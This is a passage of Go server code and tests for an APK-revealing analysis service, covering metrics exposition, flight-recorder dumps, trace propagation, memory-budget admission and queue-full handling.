	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp.StatusCode, data
}

// TestOpenMetricsScrapeLints is the exposition acceptance test: after a
// real reveal, GET /metrics must serve OpenMetrics text that survives the
// strict parser and covers jobs, cache traffic, per-stage latency and
// resource accounting.
func TestOpenMetricsScrapeLints(t *testing.T) {
	_, hs := newTestServer(t, nil)
	if resp, _ := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil); resp.StatusCode != http.StatusOK {
		t.Fatalf("reveal = %d", resp.StatusCode)
	}
	code, body := getBody(t, hs.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("GET /metrics = %d", code)
	}
	e, err := obs.ParseExposition(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("scrape does not lint: %v\n%s", err, body)
	}
	if v, ok := e.Value("dexlego_jobs_submitted_total"); !ok || v != 1 {
		t.Errorf("jobs_submitted_total = %v,%t want 1", v, ok)
	}
	if v, ok := e.Value("dexlego_store_misses_total"); !ok || v != 1 {
		t.Errorf("store_misses_total = %v,%t want 1", v, ok)
	}
	if v, ok := e.Value("dexlego_jobs", obs.L("state", "done")); !ok || v != 1 {
		t.Errorf("jobs{state=done} = %v,%t want 1", v, ok)
	}
	if v, ok := e.Value("dexlego_trace_dropped_events_total"); !ok || v != 0 {
		t.Errorf("trace_dropped_events_total = %v,%t want 0", v, ok)
	}
	if f := e.Family("dexlego_stage_latency_nanoseconds"); f == nil || f.Type != "histogram" {
		t.Fatalf("stage latency family missing: %+v", f)
	}
	if v, ok := e.Value("dexlego_stage_latency_nanoseconds_count", obs.L("stage", "collection")); !ok || v != 1 {
		t.Errorf("collection stage count = %v,%t want 1", v, ok)
	}
	if v, ok := e.Value("dexlego_job_total_latency_nanoseconds_count"); !ok || v != 1 {
		t.Errorf("total latency count = %v,%t want 1", v, ok)
	}
	if v, ok := e.Value("dexlego_reveal_alloc_bytes_total"); !ok || v <= 0 {
		t.Errorf("reveal_alloc_bytes_total = %v,%t want > 0", v, ok)
	}
	if v, ok := e.Value("dexlego_reveal_heap_peak_bytes"); !ok || v < 0 {
		t.Errorf("reveal_heap_peak_bytes = %v,%t want >= 0", v, ok)
	}
}

// TestFlightDumpOnFailedJob checks the incident path end to end: a failed
// job keeps a flight recording, serves it at /v1/jobs/{id}/flight, writes
// it to FlightDir, and every recorded event replays under the job's trace
// ID through the schema-validating reader.
func TestFlightDumpOnFailedJob(t *testing.T) {
	dir := t.TempDir()
	_, hs := newTestServer(t, func(c *Config) {
		c.FlightDir = dir
		c.Reveal = func(*apk.APK, dexlego.Options) (*dexlego.Result, error) {
			return nil, errors.New("synthetic reveal failure")
		}
	})
	resp, st := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK || st.State != StateFailed {
		t.Fatalf("job = %d %+v, want completed failed", resp.StatusCode, st)
	}
	if st.FlightReason != obs.FlightReasonFailed {
		t.Errorf("flight reason = %q, want failed", st.FlightReason)
	}
	if st.Trace == "" || !strings.HasPrefix(st.Key, st.Trace) {
		t.Errorf("trace id %q is not a prefix of key %q", st.Trace, st.Key)
	}

	code, dump := getBody(t, hs.URL+"/v1/jobs/"+st.ID+"/flight")
	if code != http.StatusOK || len(dump) == 0 {
		t.Fatalf("GET flight = %d (%d bytes), want non-empty 200", code, len(dump))
	}
	trace, err := obs.ReadTrace(bytes.NewReader(dump))
	if err != nil {
		t.Fatalf("flight dump fails schema validation: %v", err)
	}
	if n := len(trace.FilterTrace(st.Trace).Events); n != len(trace.Events) || n == 0 {
		t.Errorf("dump holds %d events, %d under the job's trace id", len(trace.Events), n)
	}
	var sawQueueWait, sawJobDone bool
	for _, ev := range trace.Events {
		sawQueueWait = sawQueueWait || ev.Type == obs.EventQueueWait
		sawJobDone = sawJobDone || ev.Type == obs.EventJobDone
	}
	if !sawQueueWait || !sawJobDone {
		t.Errorf("dump lacks lifecycle events (queue_wait=%t job_done=%t)", sawQueueWait, sawJobDone)
	}

	disk, err := os.ReadFile(filepath.Join(dir, st.ID+".jsonl"))
	if err != nil || !bytes.Equal(disk, dump) {
		t.Errorf("FlightDir recording missing or differs: %v", err)
	}

	code, body := getBody(t, hs.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("GET /metrics = %d", code)
	}
	e, err := obs.ParseExposition(bytes.NewReader(body))
	if err != nil {
		t.Fatalf("scrape does not lint: %v", err)
	}
	if v, ok := e.Value("dexlego_flight_dumps_total", obs.L("reason", "failed")); !ok || v != 1 {
		t.Errorf("flight_dumps_total{reason=failed} = %v,%t want 1", v, ok)
	}
}

// TestSLOViolationDumpsFlight: a successful job that blows the latency
// objective still produces its artifact but also a flight recording with
// reason "slo" and an slo_violation event inside it.
func TestSLOViolationDumpsFlight(t *testing.T) {
	_, hs := newTestServer(t, func(c *Config) { c.SLO = time.Nanosecond })
	resp, st := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("job = %d %+v, want done", resp.StatusCode, st)
	}
	if st.FlightReason != obs.FlightReasonSLO {
		t.Errorf("flight reason = %q, want slo", st.FlightReason)
	}
	code, dump := getBody(t, hs.URL+"/v1/jobs/"+st.ID+"/flight")
	if code != http.StatusOK || len(dump) == 0 {
		t.Fatalf("GET flight = %d (%d bytes), want non-empty 200", code, len(dump))
	}
	trace, err := obs.ReadTrace(bytes.NewReader(dump))
	if err != nil {
		t.Fatalf("flight dump fails schema validation: %v", err)
	}
	var sawViolation bool
	for _, ev := range trace.Events {
		sawViolation = sawViolation || ev.Type == obs.EventSLOViolation
	}
	if !sawViolation {
		t.Error("dump lacks the slo_violation event")
	}
	// The exposition counts the violation alongside the dump.
	code, scrape := getBody(t, hs.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("GET /metrics = %d, want 200", code)
	}
	exp, err := obs.ParseExposition(bytes.NewReader(scrape))
	if err != nil {
		t.Fatalf("exposition does not lint: %v", err)
	}
	if v, ok := exp.Value("dexlego_slo_violations_total"); !ok || v != 1 {
		t.Errorf("slo_violations_total = %v (present %t), want 1", v, ok)
	}
	if v, ok := exp.Value("dexlego_flight_dumps_total", obs.L("reason", obs.FlightReasonSLO)); !ok || v != 1 {
		t.Errorf("flight_dumps_total{reason=slo} = %v (present %t), want 1", v, ok)
	}
}

// TestHealthyJobHasNoFlight: on the happy path the ring is discarded and
// the flight endpoint answers 404.
func TestHealthyJobHasNoFlight(t *testing.T) {
	_, hs := newTestServer(t, nil)
	resp, st := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("job = %d %+v, want done", resp.StatusCode, st)
	}
	if st.FlightReason != "" {
		t.Errorf("healthy job has flight reason %q", st.FlightReason)
	}
	if code, _ := getBody(t, hs.URL+"/v1/jobs/"+st.ID+"/flight"); code != http.StatusNotFound {
		t.Errorf("GET flight on healthy job = %d, want 404", code)
	}
	if code, _ := getBody(t, hs.URL+"/v1/jobs/nope/flight"); code != http.StatusNotFound {
		t.Errorf("GET flight on unknown job = %d, want 404", code)
	}
}

// TestTraceIDPropagatesEndToEnd submits one job with a shared sink and
// checks the full span tree — lifecycle span, reveal root, stage spans,
// collector events — carries the job's trace ID, so -trace-report can
// filter one job out of a busy server's interleaved trace.
func TestTraceIDPropagatesEndToEnd(t *testing.T) {
	sink := &lockedBuffer{}
	_, hs := newTestServer(t, func(c *Config) { c.Sink = sink })
	resp, st := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("job = %d %+v, want done", resp.StatusCode, st)
	}
	trace, err := obs.ReadTrace(bytes.NewReader(sink.bytes()))
	if err != nil {
		t.Fatalf("server trace invalid: %v", err)
	}
	got := trace.FilterTrace(st.Trace)
	if len(got.Events) == 0 {
		t.Fatalf("no events under trace %q", st.Trace)
	}
	spanNames := map[string]bool{}
	for _, ev := range got.Events {
		if ev.Type == obs.EventSpanStart {
			spanNames[ev.Name] = true
		}
	}
	for _, want := range []string{"job", "reveal", "stage.collection", "stage.reassembly", "stage.verify"} {
		if !spanNames[want] {
			t.Errorf("span %q missing from the job's trace (have %v)", want, spanNames)
		}
	}
	// The server span itself carries no job trace id.
	if ids := trace.TraceIDs(); len(ids) != 1 || ids[0] != st.Trace {
		t.Errorf("TraceIDs = %v, want exactly [%s]", ids, st.Trace)
	}
}

// TestJobResourceAccounting: a completed job reports its latency split and
// the reveal's CPU/heap bill through the status API.
func TestJobResourceAccounting(t *testing.T) {
	_, hs := newTestServer(t, nil)
	resp, st := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK || st.State != StateDone {
		t.Fatalf("job = %d %+v, want done", resp.StatusCode, st)
	}
	ru := st.Resources
	if ru == nil {
		t.Fatal("job status has no resources")
	}
	if err := ru.Validate(); err != nil {
		t.Errorf("job resources invalid: %v", err)
	}
	if ru.TotalNS <= 0 || st.TotalNS != ru.TotalNS {
		t.Errorf("total latency %d / %d inconsistent", st.TotalNS, ru.TotalNS)
	}
	if ru.AllocBytes <= 0 {
		t.Errorf("reveal allocated nothing? %+v", ru)
	}
	if st.Metrics == nil || st.Metrics.Resources == nil {
		t.Fatalf("artifact metrics carry no resources: %+v", st.Metrics)
	}
	if got := st.Metrics.Stages; len(got) == 0 || got[0].AllocBytes <= 0 {
		t.Errorf("stage allocation bill missing: %+v", got)
	}

	// The cache-hit job reports latency only — it ran nothing.
	_, hit := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if !hit.CacheHit || hit.Resources == nil {
		t.Fatalf("hit = %+v, want cache hit with resources", hit)
	}
	if hit.Resources.AllocBytes != 0 || hit.Resources.TotalNS <= 0 {
		t.Errorf("cache hit resources = %+v, want latency only", hit.Resources)
	}
}

// TestMemBudgetMetricsExposed checks the memory-budget plane end to end: a
// whale submitted to a budget-gated server spills records mid-reveal, and
// the scrape carries the whole dexlego_mem_* family.
func TestMemBudgetMetricsExposed(t *testing.T) {
	sc, err := store.OpenMethodCache("", 0)
	if err != nil {
		t.Fatal(err)
	}
	_, hs := newTestServer(t, func(c *Config) {
		c.MemBudget = pipeline.NewMemoryBudget(512 << 20)
		c.SpillCache = sc
	})
	app, err := workload.Whale(workload.WhaleConfig{
		Classes: 4, MethodsPerClass: 2, InsnsPerMethod: 64,
		GiantMethods: 1, GiantInsns: 4000, Seed: 7,
	})
	if err != nil {
		t.Fatal(err)
	}
	body, err := app.APK.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	if resp, _ := postReveal(t, hs.URL, "?wait=1", body); resp.StatusCode != http.StatusOK {
		t.Fatalf("reveal = %d", resp.StatusCode)
	}
	code, scrape := getBody(t, hs.URL+"/metrics")
	if code != http.StatusOK {
		t.Fatalf("GET /metrics = %d", code)
	}
	e, err := obs.ParseExposition(bytes.NewReader(scrape))
	if err != nil {
		t.Fatalf("scrape does not lint: %v\n%s", err, scrape)
	}
	if v, ok := e.Value("dexlego_mem_budget_bytes"); !ok || v != 512<<20 {
		t.Errorf("mem_budget_bytes = %v,%t want %d", v, ok, 512<<20)
	}
	if v, ok := e.Value("dexlego_mem_inuse_bytes"); !ok || v != 0 {
		t.Errorf("mem_inuse_bytes after completion = %v,%t want 0", v, ok)
	}
	if v, ok := e.Value("dexlego_mem_admit_waits_total"); !ok || v != 0 {
		t.Errorf("mem_admit_waits_total = %v,%t want 0 (single job never waits)", v, ok)
	}
	if _, ok := e.Value("dexlego_mem_admit_wait_nanoseconds_total"); !ok {
		t.Errorf("mem_admit_wait_nanoseconds_total missing")
	}
	if v, ok := e.Value("dexlego_mem_spills_total"); !ok || v <= 0 {
		t.Errorf("mem_spills_total = %v,%t want > 0", v, ok)
	}
	if v, ok := e.Value("dexlego_mem_spilled_bytes_total"); !ok || v <= 0 {
		t.Errorf("mem_spilled_bytes_total = %v,%t want > 0", v, ok)
	}
}

// TestMemBudgetGatesConcurrentReveals pins the admission behavior: with a
// budget that fits one estimate, two concurrent fresh reveals serialize and
// the second records an admission wait.
func TestMemBudgetGatesConcurrentReveals(t *testing.T) {
	budget := pipeline.NewMemoryBudget(10 << 20) // one 8 MiB floor estimate at a time
	release := make(chan struct{})
	started := make(chan struct{}, 2)
	srv, hs := newTestServer(t, func(c *Config) {
		c.MemBudget = budget
		c.Reveal = func(pkg *apk.APK, opts dexlego.Options) (*dexlego.Result, error) {
			started <- struct{}{}
			<-release
			return dexlego.Reveal(pkg, opts)
		}
	})
	resp1, st1 := postReveal(t, hs.URL, "?sample=SelfModifying1", nil)
	if resp1.StatusCode != http.StatusAccepted {
		t.Fatalf("submit 1 = %d", resp1.StatusCode)
	}
	<-started // job 1 is inside the reveal closure holding the budget
	resp2, st2 := postReveal(t, hs.URL, "?sample=DirectLeak1", nil)
	if resp2.StatusCode != http.StatusAccepted {
		t.Fatalf("submit 2 = %d", resp2.StatusCode)
	}
	// Job 2 must be blocked in Acquire, not inside the reveal.
	deadline := time.Now().Add(2 * time.Second)
	for budget.Waits() == 0 && time.Now().Before(deadline) {
		time.Sleep(5 * time.Millisecond)
	}
	if budget.Waits() != 1 {
		t.Fatalf("Waits = %d, want 1", budget.Waits())
	}
	select {
	case <-started:
		t.Fatalf("second reveal entered while the budget was held")
	default:
	}
	close(release)
	_ = srv
	for _, id := range []string{st1.ID, st2.ID} {
		st := pollJob(t, hs.URL, id, 10*time.Second)
		if st.State != StateDone {
			t.Fatalf("job %s = %s (%s)", id, st.State, st.Err)
		}
	}
	if budget.InUse() != 0 {
		t.Fatalf("InUse after completion = %d, want 0", budget.InUse())
	}
	if budget.WaitNS() <= 0 {
		t.Fatalf("WaitNS = %d, want > 0", budget.WaitNS())
	}
}

// pollJob polls GET /v1/jobs/{id} until the job leaves the active states.
func pollJob(t *testing.T, base, id string, timeout time.Duration) *JobStatus {
	t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		code, data := getBody(t, base+"/v1/jobs/"+id)
		if code != http.StatusOK {
			t.Fatalf("GET job %s = %d", id, code)
		}
		var st JobStatus
		if err := json.Unmarshal(data, &st); err != nil {
			t.Fatalf("job status does not parse: %v: %s", err, data)
		}
		if st.State == StateDone || st.State == StateFailed {
			return &st
		}
		if time.Now().After(deadline) {
			t.Fatalf("job %s still %s after %v", id, st.State, timeout)
		}
		time.Sleep(10 * time.Millisecond)
	}
}
