package server

import (
	"bytes"
	"net/http"
	"os"
	"path/filepath"
	"time"

	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
)

// telemetry is the server's typed metric plane: every series served at
// GET /metrics is registered here once, at construction, so the exposition
// is a stable contract rather than whatever a handler happened to print.
// Counters and gauges that the server already tracks (job counts, store
// counters) are registered as lazy funcs over the existing state; only the
// latency histograms and incident counters are new state.
type telemetry struct {
	reg *obs.Registry

	queueHist *obs.Histogram
	runHist   *obs.Histogram
	totalHist *obs.Histogram
	stageHist map[pipeline.Stage]*obs.Histogram

	sloViolations  obs.Counter
	flightFailed   obs.Counter
	flightSLO      obs.Counter
	flightDumpErrs obs.Counter

	revealCPUNS     obs.Counter
	revealAllocB    obs.Counter
	revealHeapPeakB obs.Gauge

	methodsCached   obs.Counter
	methodsExecuted obs.Counter

	memSpills       obs.Counter
	memSpilledBytes obs.Counter
}

// newTelemetry builds the registry over the server's live state.
func newTelemetry(s *Server) *telemetry {
	t := &telemetry{
		reg:       obs.NewRegistry("dexlego"),
		stageHist: make(map[pipeline.Stage]*obs.Histogram, len(pipeline.Stages())),
	}
	r := t.reg

	r.CounterFunc("jobs_submitted", "Jobs accepted by the reveal API.",
		s.submitted.Load)
	r.CounterFunc("jobs_rejected", "Jobs answered 429 because the queue was full.",
		s.rejected.Load)
	r.CounterFunc("jobs_coalesced",
		"Submissions that joined an already-active job for the same key.",
		s.coalesced.Load)
	for _, st := range []State{StateQueued, StateRunning, StateDone, StateFailed} {
		st := st
		r.GaugeFunc("jobs", "Jobs by lifecycle state.", func() int64 {
			s.mu.Lock()
			defer s.mu.Unlock()
			return int64(s.counts[st])
		}, obs.L("state", string(st)))
	}

	r.CounterFunc("store_hits", "Artifact cache hits.", s.cfg.Store.Hits)
	r.CounterFunc("store_misses", "Artifact cache misses.", s.cfg.Store.Misses)
	r.CounterFunc("store_evicted", "Artifacts evicted from the store.", s.cfg.Store.Evicted)
	r.GaugeFunc("store_resident", "Artifacts resident in the store.", func() int64 {
		return int64(s.cfg.Store.Len())
	})

	r.CounterFunc("trace_dropped_events", "Trace events lost to sink or encoding errors.",
		s.droppedEvents)

	t.queueHist = r.Histogram("job_queue_latency_nanoseconds",
		"Time jobs spent waiting for a pool worker.")
	t.runHist = r.Histogram("job_run_latency_nanoseconds",
		"Time jobs spent inside the reveal (or store lookup).")
	t.totalHist = r.Histogram("job_total_latency_nanoseconds",
		"Admission-to-completion job latency.")
	for _, st := range pipeline.Stages() {
		t.stageHist[st] = r.Histogram("stage_latency_nanoseconds",
			"Per-stage reveal wall time.", obs.L("stage", st.String()))
	}

	r.CounterFunc("slo_violations", "Jobs whose total latency exceeded the objective.",
		t.sloViolations.Load)
	r.CounterFunc("flight_dumps", "Flight recordings dumped, by incident reason.",
		t.flightFailed.Load, obs.L("reason", obs.FlightReasonFailed))
	r.CounterFunc("flight_dumps", "Flight recordings dumped, by incident reason.",
		t.flightSLO.Load, obs.L("reason", obs.FlightReasonSLO))
	r.CounterFunc("flight_dump_errors", "Flight dumps that could not be written to disk.",
		t.flightDumpErrs.Load)

	r.CounterFunc("reveal_cpu_nanoseconds", "Aggregate worker CPU time attributed to reveals.",
		t.revealCPUNS.Load)
	r.CounterFunc("reveal_alloc_bytes", "Heap allocation volume of completed reveals.",
		t.revealAllocB.Load)
	r.GaugeFunc("reveal_heap_peak_bytes",
		"Largest live-heap growth any single reveal has caused.", t.revealHeapPeakB.Load)

	// The incremental method-cache family exists whenever the server has a
	// method cache (the default in -serve); all series are lazy funcs over
	// the cache plus two per-job counters fed by observeJob.
	if mc := s.cfg.MethodCache; mc != nil {
		r.CounterFunc("methodcache_hits", "Method-tree cache hits.", mc.Hits)
		r.CounterFunc("methodcache_misses", "Method-tree cache misses.", mc.Misses)
		r.CounterFunc("methodcache_evicted", "Method trees evicted from memory.", mc.Evicted)
		r.GaugeFunc("methodcache_resident", "Method trees resident in memory.", func() int64 {
			return int64(mc.Len())
		})
		r.GaugeFunc("methodcache_resident_bytes",
			"Serialized size of resident method trees.", mc.Bytes)
		r.CounterFunc("methodcache_methods_cached",
			"Methods served by tree splicing across completed reveals.",
			t.methodsCached.Load)
		r.CounterFunc("methodcache_methods_executed",
			"Methods executed fresh across completed incremental reveals.",
			t.methodsExecuted.Load)
	}

	// The memory-budget family exists whenever the server gates admissions
	// on heap footprint: budget occupancy as lazy funcs over the gate, the
	// spill counters fed per job by observeJob.
	if b := s.cfg.MemBudget; b != nil {
		r.GaugeFunc("mem_budget_bytes",
			"Configured reveal heap-footprint budget.", b.Limit)
		r.GaugeFunc("mem_inuse_bytes",
			"Estimated heap footprint of currently admitted reveals.", b.InUse)
		r.CounterFunc("mem_admit_waits",
			"Reveals that blocked on the memory budget before running.", b.Waits)
		r.CounterFunc("mem_admit_wait_nanoseconds",
			"Total time reveals spent blocked on the memory budget.", b.WaitNS)
		r.CounterFunc("mem_spills",
			"Method records displaced to the spill tier across completed reveals.",
			t.memSpills.Load)
		r.CounterFunc("mem_spilled_bytes",
			"Serialized volume displaced to the spill tier across completed reveals.",
			t.memSpilledBytes.Load)
	}
	return t
}

// observeJob feeds one finished job's latencies and resource bill into the
// histograms and totals. Stage latencies and resource totals come from the
// run itself, so cache hits contribute only latency.
func (t *telemetry) observeJob(queue, run, total time.Duration, m *pipeline.AppMetrics, fresh bool) {
	t.queueHist.Observe(int64(queue))
	t.runHist.Observe(int64(run))
	t.totalHist.Observe(int64(total))
	if !fresh || m == nil {
		return
	}
	for _, st := range m.Stages {
		if h, ok := t.stageHist[st.Stage]; ok {
			h.Observe(st.WallNS)
		}
	}
	if ru := m.Resources; ru != nil {
		t.revealCPUNS.Add(ru.CPUNS)
		t.revealAllocB.Add(ru.AllocBytes)
		t.revealHeapPeakB.Max(ru.HeapPeakBytes)
	}
	t.methodsCached.Add(int64(m.MethodsCached))
	t.methodsExecuted.Add(int64(m.MethodsExecuted))
	t.memSpills.Add(int64(m.MethodsSpilled))
	t.memSpilledBytes.Add(m.SpilledBytes)
}

// droppedEvents totals trace events lost anywhere in the plane: the live
// server tracer plus everything already folded into the aggregate snapshot
// (per-job tracers are merged there at completion).
func (s *Server) droppedEvents() int64 {
	n := s.tracer.Dropped()
	s.mu.Lock()
	if s.agg != nil {
		n += s.agg.Dropped
	}
	s.mu.Unlock()
	return n
}

// handleOpenMetrics serves GET /metrics in OpenMetrics text format.
func (s *Server) handleOpenMetrics(w http.ResponseWriter, _ *http.Request) {
	w.Header().Set("Content-Type", "application/openmetrics-text; version=1.0.0; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	_ = s.tel.reg.WriteOpenMetrics(w)
}

// handleFlight serves GET /v1/jobs/{id}/flight: the JSONL flight recording
// of a failed or SLO-violating job.
func (s *Server) handleFlight(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	j, ok := s.jobs[r.PathValue("id")]
	var flight []byte
	if ok {
		flight = j.flight
	}
	s.mu.Unlock()
	switch {
	case !ok:
		httpError(w, http.StatusNotFound, "unknown job")
	case flight == nil:
		httpError(w, http.StatusNotFound, "no flight recording; job neither failed nor violated its SLO")
	default:
		w.Header().Set("Content-Type", "application/x-ndjson")
		w.WriteHeader(http.StatusOK)
		_, _ = w.Write(flight)
	}
}

// dumpFlight drains a job's flight ring after an incident. The recording
// is kept on the job record for GET /v1/jobs/{id}/flight, optionally
// written to FlightDir as <jobid>.jsonl, and announced with a flight_dump
// event so the main trace records that (and why) a dump exists.
func (s *Server) dumpFlight(j *job, rec *obs.FlightRecorder, span *obs.Span, reason string) {
	var buf bytes.Buffer
	n, _ := rec.Dump(&buf)
	switch reason {
	case obs.FlightReasonFailed:
		s.tel.flightFailed.Add(1)
	case obs.FlightReasonSLO:
		s.tel.flightSLO.Add(1)
	}
	span.FlightDump(j.id, n, reason)
	if dir := s.cfg.FlightDir; dir != "" {
		if err := os.WriteFile(filepath.Join(dir, j.id+".jsonl"), buf.Bytes(), 0o644); err != nil {
			s.tel.flightDumpErrs.Add(1)
		}
	}
	s.mu.Lock()
	j.flight = buf.Bytes()
	j.flightReason = reason
	s.mu.Unlock()
}

// traceIDFor derives the stable per-job trace identity from the artifact's
// content address: requests for the same (APK, Options) pair share it, so
// one grep extracts every run of the same work.
func traceIDFor(key string) string {
	if len(key) > 12 {
		return key[:12]
	}
	return key
}
