package server

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	dexlego "dexlego"
	"dexlego/internal/apk"
	"dexlego/internal/obs"
	"dexlego/internal/pipeline"
	"dexlego/internal/store"
)

func newTestServer(t *testing.T, mutate func(*Config)) (*Server, *httptest.Server) {
	t.Helper()
	st, err := store.Open(t.TempDir(), 16)
	if err != nil {
		t.Fatal(err)
	}
	cfg := Config{Store: st, Workers: 2, QueueDepth: 8, RequestTimeout: 20 * time.Second}
	if mutate != nil {
		mutate(&cfg)
	}
	srv, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	hs := httptest.NewServer(srv.Handler())
	t.Cleanup(func() {
		hs.Close()
		srv.Close()
	})
	return srv, hs
}

func postReveal(t *testing.T, base, query string, body []byte) (*http.Response, *JobStatus) {
	t.Helper()
	resp, err := http.Post(base+"/v1/reveal"+query, "application/zip", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	data, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	var st JobStatus
	if resp.StatusCode < 300 {
		if err := json.Unmarshal(data, &st); err != nil {
			t.Fatalf("status %d, body not a JobStatus: %s", resp.StatusCode, data)
		}
	}
	return resp, &st
}

func getMetrics(t *testing.T, base string) *Metrics {
	t.Helper()
	resp, err := http.Get(base + "/v1/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	var m Metrics
	if err := json.NewDecoder(resp.Body).Decode(&m); err != nil {
		t.Fatal(err)
	}
	return &m
}

// TestRevealSampleEndToEnd exercises the acceptance path: a sample
// submission runs the real Reveal, a second identical submission is a
// cache hit served without re-running, the artifact downloads as a valid
// APK, and /v1/metrics reports the cache_hit/cache_miss/queue_wait events.
func TestRevealSampleEndToEnd(t *testing.T) {
	srv, hs := newTestServer(t, nil)
	resp, first := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("first POST = %d", resp.StatusCode)
	}
	if first.State != StateDone || first.CacheHit || first.RevealedBytes == 0 {
		t.Fatalf("first job = %+v, want done miss with artifact", first)
	}
	if first.Metrics == nil || first.Metrics.Obs == nil {
		t.Errorf("artifact metrics missing obs snapshot: %+v", first.Metrics)
	}

	resp2, second := postReveal(t, hs.URL, "?sample=SelfModifying1&wait=1", nil)
	if resp2.StatusCode != http.StatusOK {
		t.Fatalf("second POST = %d", resp2.StatusCode)
	}
	if second.State != StateDone || !second.CacheHit {
		t.Fatalf("second job = %+v, want cache hit", second)
	}
	if second.Key != first.Key {
		t.Errorf("identical submissions got different keys: %s vs %s", second.Key, first.Key)
	}
	if misses := srv.cfg.Store.Misses(); misses != 1 {
		t.Errorf("store misses = %d, want exactly 1 reveal across both posts", misses)
	}

	// The artifact endpoint serves the revealed APK.
	art, err := http.Get(hs.URL + "/v1/jobs/" + first.ID + "/artifact")
	if err != nil {
		t.Fatal(err)
	}
	defer art.Body.Close()
	data, err := io.ReadAll(art.Body)
	if err != nil {
		t.Fatal(err)
	}
	if art.StatusCode != http.StatusOK || len(data) != first.RevealedBytes {
		t.Fatalf("artifact = %d (%d bytes), want 200 with %d bytes",
			art.StatusCode, len(data), first.RevealedBytes)
	}
	revealed, err := apk.Read(data)
	if err != nil {
		t.Fatalf("artifact is not an APK: %v", err)
	}
	if _, err := revealed.Dex(); err != nil {
		t.Errorf("revealed APK lost its classes.dex: %v", err)
	}

	// Jobs are pollable by id.
	jr, err := http.Get(hs.URL + "/v1/jobs/" + second.ID)
	if err != nil {
		t.Fatal(err)
	}
	jr.Body.Close()
	if jr.StatusCode != http.StatusOK {
		t.Errorf("job poll = %d", jr.StatusCode)
	}

	m := getMetrics(t, hs.URL)
	if m.Jobs.Done != 2 || m.Store.Misses != 1 || m.Store.Hits < 1 {
		t.Errorf("metrics = %+v", m)
	}
	for _, ev := range []obs.EventType{obs.EventCacheHit, obs.EventCacheMiss, obs.EventQueueWait, obs.EventJobDone} {
		if m.Obs.EventCount(ev) < 1 {
			t.Errorf("metrics obs snapshot missing %s: %+v", ev, m.Obs.Events)
		}
	}
	// The merged snapshot also carries the reveal's own pipeline events.
	if m.Obs.EventCount(obs.EventMethodCollected) < 1 {
		t.Errorf("reveal snapshot not merged into service metrics: %+v", m.Obs.Events)
	}
}

// stubResult fabricates a minimal successful reveal outcome.
func stubResult(name string) *dexlego.Result {
	pkg := apk.New(name, "1.0", "L"+name+";")
	pkg.SetDex([]byte{0x64, 0x65, 0x78})
	return &dexlego.Result{Revealed: pkg, Metrics: &pipeline.AppMetrics{WallNS: 1}}
}

func TestQueueFullReturns429(t *testing.T) {
	gate := make(chan struct{})
	_, hs := newTestServer(t, func(c *Config) {
		c.Workers = 1
		c.QueueDepth = 1
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			<-gate
			return stubResult(pkg.Manifest.Package), nil
		}
	})
	defer close(gate)
	// Distinct inputs so no submission collapses into another's flight:
	// the worker blocks on the first, the queue holds at most one more,
	// and a later submission must be refused with Retry-After.
	codes := make([]int, 0, 8)
	ids := make([]string, 0, 8)
	for i := 0; i < 8; i++ {
		body := buildBodyAPK(t, fmt.Sprintf("app%d", i))
		resp, st := postReveal(t, hs.URL, "", body)
		codes = append(codes, resp.StatusCode)
		if resp.StatusCode == http.StatusAccepted {
			ids = append(ids, st.ID)
			if resp.Header.Get("Location") == "" {
				t.Error("202 without Location header")
			}
		}
		if resp.StatusCode == http.StatusTooManyRequests {
			if resp.Header.Get("Retry-After") == "" {
				t.Error("429 without Retry-After")
			}
		}
	}
	saw429 := false
	for _, c := range codes {
		switch c {
		case http.StatusAccepted:
		case http.StatusTooManyRequests:
			saw429 = true
		default:
			t.Fatalf("unexpected status %d in %v", c, codes)
		}
	}
	if !saw429 {
		t.Fatalf("full queue never answered 429: %v", codes)
	}
	if len(ids) < 1 || len(ids) > 3 {
		// 1 running + 1 queued, plus at most one more racing the dequeue.
		t.Errorf("accepted %d jobs with workers=1 depth=1", len(ids))
	}
	m := getMetrics(t, hs.URL)
	if m.Jobs.Rejected < 1 {
		t.Errorf("rejected count = %d", m.Jobs.Rejected)
	}
}

func buildBodyAPK(t *testing.T, name string) []byte {
	t.Helper()
	pkg := apk.New(name, "1.0", "L"+name+"/Main;")
	pkg.SetDex([]byte(name + "-dex"))
	data, err := pkg.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestRevealPanicIsolatedIntoFailedJob(t *testing.T) {
	_, hs := newTestServer(t, func(c *Config) {
		c.Reveal = func(pkg *apk.APK, _ dexlego.Options) (*dexlego.Result, error) {
			if pkg.Manifest.Package == "bomb" {
				panic("malicious APK blew up the runtime")
			}
